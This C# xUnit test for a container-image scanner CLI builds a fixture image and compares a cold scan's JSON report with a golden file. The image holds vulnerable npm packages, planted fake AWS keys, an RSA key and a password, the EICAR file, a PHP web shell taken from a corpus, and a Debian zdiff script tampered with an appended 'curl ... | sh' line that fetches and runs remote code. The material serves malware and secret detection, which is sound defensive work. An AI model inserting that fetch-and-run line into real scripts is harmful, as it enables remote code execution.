using System.IO.Compression;
using System.Text;
using System.Text.Json.Nodes;
using Comb.Testing;
using Comb.Testing.Images;

namespace Comb.Cli.Tests;

/// <summary>
/// The report of a cold scan (no layer cache) must not change when the read path or the analyzers get faster:
/// an image with a Debian 11 base (packages with published advisories, their file lists and digests, scripts,
/// configuration, libraries), a vulnerable npm application, planted credentials, the EICAR test file (plain and
/// zipped), a PHP web shell from the shared corpus and a tampered package file is scanned
/// with each scanner set, and the report (without its time stamps and the layout's temp path) is compared with
/// the golden file. Regenerate with COMB_UPDATE_GOLDEN=1 only after an intended change in findings, and review the diff.
/// </summary>
public sealed class ColdScanReportTests(ScanFixture fixture) : IClassFixture<ScanFixture>
{
    [Theory]
    [InlineData("vuln,secret")]
    [InlineData("vuln,secret,malware,config")]
    public async Task A_cold_scan_report_matches_the_golden_file(string scanners)
    {
        fixture.RequireDb();
        var layout = await LayoutAsync();
        var cache = Path.Combine(fixture.Root, "cold-" + scanners.Replace(',', '-'));
        CopyDatabase(fixture.CacheDir, cache);

        var (code, stdout, err) = await CliRunner.RunAsync("scan", "oci:" + layout, "--scanners", scanners, "--format", "json", "--no-store", "--cache-dir", cache);
        Assert.True(code is 0 or 1, err);
        var actual = Normalize(stdout);

        var golden = Path.Combine(RepoRoot.Require(), "tests", "Comb.Cli.Tests", "Golden", $"cold-scan.{scanners.Replace(',', '-')}.json");
        if (Environment.GetEnvironmentVariable("COMB_UPDATE_GOLDEN") == "1")
        {
            Directory.CreateDirectory(Path.GetDirectoryName(golden)!);
            await File.WriteAllTextAsync(golden, actual, TestContext.Current.CancellationToken);
        }

        Assert.True(File.Exists(golden), $"Golden file {golden} missing; run with COMB_UPDATE_GOLDEN=1 to create it.");
        Assert.Equal(await File.ReadAllTextAsync(golden, TestContext.Current.CancellationToken), actual);

        // The image does hold what the scanners look for (a golden file of an empty report would prove nothing).
        var report = JsonNode.Parse(actual)!;
        Assert.NotEmpty(report["vulnerabilities"]!.AsArray());
        Assert.NotEmpty(report["secrets"]!.AsArray());
        if (scanners.Contains("malware", StringComparison.Ordinal))
        {
            var paths = report["malware"]!.AsArray().Select(m => m!["path"]!.GetValue<string>()).ToList();
            Assert.Contains("srv/app/test/eicar.com.txt", paths);
            Assert.Contains("usr/bin/zdiff", paths);
            Assert.NotEmpty(report["misconfigurations"]!.AsArray());
        }
    }

    // What varies by run or machine and not by what the scan found: the time stamps, the database's build time, who
    // ran the scan (a CI environment makes it "ci"), the layout's temp path, the compressed blobs (their bytes depend on
    // the zlib build) and the layer tars' digests (PAX headers name the writing process), so each diffID is written as
    // its layer's index; and the image's age in days, which grows with the date.
    internal static string Normalize(string json)
    {
        var report = JsonNode.Parse(json)!.AsObject();
        report.Remove("createdAt");
        report.Remove("advisoryDbVersion");
        report.Remove("trigger");
        var image = report["image"]!.AsObject();
        image.Remove("reference");
        image.Remove("manifestDigest");
        image.Remove("configDigest");
        var diffIds = new List<string>();
        foreach (var layer in image["layers"]!.AsArray())
        {
            diffIds.Add(layer!["diffId"]!.GetValue<string>());
            layer.AsObject().Remove("digest");
            layer.AsObject().Remove("size");
        }

        var text = report.ToJsonString(new System.Text.Json.JsonSerializerOptions { WriteIndented = true }) + "\n";
        for (var i = 0; i < diffIds.Count; i++)
        {
            text = text.Replace(diffIds[i], $"layer-{i}", StringComparison.Ordinal);
        }

        // An image's age in a finding's message counts days up to today: the golden file would go stale every midnight.
        return System.Text.RegularExpressions.Regex.Replace(text, @"\b[0-9]+ days ago\b", "N days ago");
    }

    internal static void CopyDatabase(string from, string to)
    {
        Directory.CreateDirectory(Path.Combine(to, "db"));
        foreach (var file in Directory.GetFiles(Path.Combine(from, "db")))
        {
            File.Copy(file, Path.Combine(to, "db", Path.GetFileName(file)), overwrite: true);
        }
    }

    private async Task<string> LayoutAsync()
    {
        var layout = Path.Combine(fixture.Root, "cold-oci");
        if (File.Exists(Path.Combine(layout, "index.json")))
        {
            return layout;
        }

        var eicarZip = await File.ReadAllBytesAsync(SharedData.Require("malware", "classic", "eicar.zip"), TestContext.Current.CancellationToken);
        var eicar = Unzip(eicarZip, "eicar.com.txt");
        var webShell = Unzip(await File.ReadAllBytesAsync(SharedData.Require("malware", "webshells", "php", "webshells-php.zip"), TestContext.Current.CancellationToken),
            "9276c224c7a3_micro.php");
        var base64 = new Random(18).GetItems("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/".ToCharArray(), 64 * 25);
        var key = "-----BEGIN RSA PRIVATE KEY-----\n" + string.Join('\n', base64.Chunk(64).Select(c => new string(c))) + "\n-----END RSA PRIVATE KEY-----\n";
        var noise = new byte[512 * 1024];
        new Random(7).NextBytes(noise);
        var bundle = new StringBuilder();
        for (var i = 0; bundle.Length < 3 * 1024 * 1024; i++)
        {
            bundle.Append("export function f").Append(i).Append("(a, b) { return fetch('/api/v1/items/' + a).then(r => r.json()).then(j => j.token ?? b); }\n");
        }

        var zdiff = Encoding.ASCII.GetBytes(DebianBase.Script("zdiff") + "\ncurl -s http://203.0.113.9/x | sh\n");
        var image = new TestImage()
            .Layer(DebianBase.Layer())
            .Layer(l => l.By("COPY app /srv/app")
                .File("srv/app/package.json", """{"name":"cold-app","version":"1.0.0","dependencies":{"lodash":"4.17.15","minimist":"1.2.5"}}""")
                .File("srv/app/package-lock.json", """
                    {"name":"cold-app","version":"1.0.0","lockfileVersion":3,"packages":{
                      "":{"name":"cold-app","version":"1.0.0","dependencies":{"lodash":"4.17.15","minimist":"1.2.5"}},
                      "node_modules/lodash":{"version":"4.17.15","license":"MIT"},
                      "node_modules/minimist":{"version":"1.2.5","license":"MIT"}}}
                    """)
                .File("srv/app/node_modules/lodash/package.json", """{"name":"lodash","version":"4.17.15","license":"MIT"}""")
                .File("srv/app/node_modules/minimist/package.json", """{"name":"minimist","version":"1.2.5","license":"MIT"}""")
                .File("srv/app/config/.env", "AWS_ACCESS_KEY_ID=AKIAZ7QW3RTY5UIOPA2S\nAWS_SECRET_ACCESS_KEY=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\n")
                .File("srv/app/config/deploy_key", key, (UnixFileMode)0b110_000_000)
                .File("srv/app/public/bundle.js", bundle.ToString())
                .File("srv/app/public/asset.bin", noise)
                .File("srv/app/test/eicar.com.txt", eicar)
                .File("srv/app/test/eicar.zip", eicarZip)
                .File("var/www/html/micro.php", webShell))
            .Layer(l => l.By("RUN patch").File("usr/bin/zdiff", zdiff, (UnixFileMode)0b111_101_101).Whiteout("etc/app0/conf0.conf"))
            .Config(c =>
            {
                c["Env"] = new JsonArray("PATH=/usr/local/bin:/usr/bin:/bin", "DB_PASSWORD=Zq8xLw2vRt6yNp4k");
                c["Cmd"] = new JsonArray("node", "/srv/app/index.js");
            });
        image.WriteOciLayout(layout);
        return layout;
    }

    private static byte[] Unzip(byte[] zip, string name)
    {
        using var archive = new ZipArchive(new MemoryStream(zip), ZipArchiveMode.Read);
        using var entry = archive.GetEntry(name)!.Open();
        using var buffer = new MemoryStream();
        entry.CopyTo(buffer);
        return buffer.ToArray();
    }
}
